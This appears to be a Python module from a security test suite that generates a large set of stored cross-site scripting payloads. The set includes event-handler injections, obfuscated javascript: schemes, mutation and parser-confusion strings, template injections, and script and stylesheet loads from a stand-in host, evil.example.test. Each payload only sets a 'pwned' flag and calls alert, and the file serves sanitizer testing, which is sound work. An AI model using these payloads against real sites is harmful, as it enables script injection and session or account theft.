"""Stored XSS: payloads of the known families, composed here. Each would set `pwned` or call `alert` if it ran."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.top.pwned=1;window.pwned=1;alert(1)"
TAGS = (
    "img", "svg", "body", "video", "audio", "input", "iframe", "details", "marquee", "object", "embed", "math", "form",
    "select", "textarea", "a", "div", "table", "xss-x", "style",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
    "onbeforeinput", "onwheel",
)  # fmt: skip
SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}",
    "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript&colon;{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>", "//evil.example.test/x.js",
    "feed:javascript:{}", "blob:{}", "javascript://%0a{}", "java&Tab;script:{}",
)  # fmt: skip
HOLDERS = ('<a href="{}" id=k>链接</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><button>发</button></form>',
           '<object data="{}"></object>', '<embed src="{}">', '<area href="{}">')  # fmt: skip
WHOLE = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>", '"><script>{}</script>', "'><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<script src=//evil.example.test/x.js></script>", "<base href=//evil.example.test/>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">', "<link rel=stylesheet href=//evil.example.test/x.css>",
    "<style>@import '//evil.example.test/x.css';</style>", "<style>*{{background:url(javascript:{})}}</style>",
    '<div style="background:url(javascript:{})">x</div>', '<div style="width:expression({})">x</div>',
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x></svg>",
    "<svg><a xlink:href=\"javascript:{}\"><text y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload={}/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href=\"data:x,<script>{}</script>\">", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<template><script>{}</script></template>", "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<table background=javascript:{}>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>", "<xmp><img src=x onerror={}></xmp>", "<plaintext><img src=x onerror={}>",
    "<isindex action=javascript:{} type=image>", "<keygen autofocus onfocus={}>", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "<%={}%>", "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "＜script＞{}＜/script＞",
    "<img src=x:x onerror&#61;{}>", "<img/src/onerror={}>", "<img src='x' onerror\n=\n{}>", "<img src=`x` onerror=`{}`>",
    "<a href=\"x\" onmouseover=\"{}\" style=\"position:fixed;inset:0\">x</a>", "<input autofocus onfocus=\"{}\">",
    "<details open ontoggle=\"{}\"><summary>x</summary></details>", "<body onpageshow=\"{}\">",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for tag, event in product(TAGS, EVENTS):
        yield f'<{tag} src=x href=x tabindex=1 autofocus {event}="{RUN}">x</{tag}>'
    for scheme, holder in product(SCHEMES, HOLDERS):
        yield holder.format(scheme.format(RUN))
    for one in WHOLE:
        yield one.format(RUN)
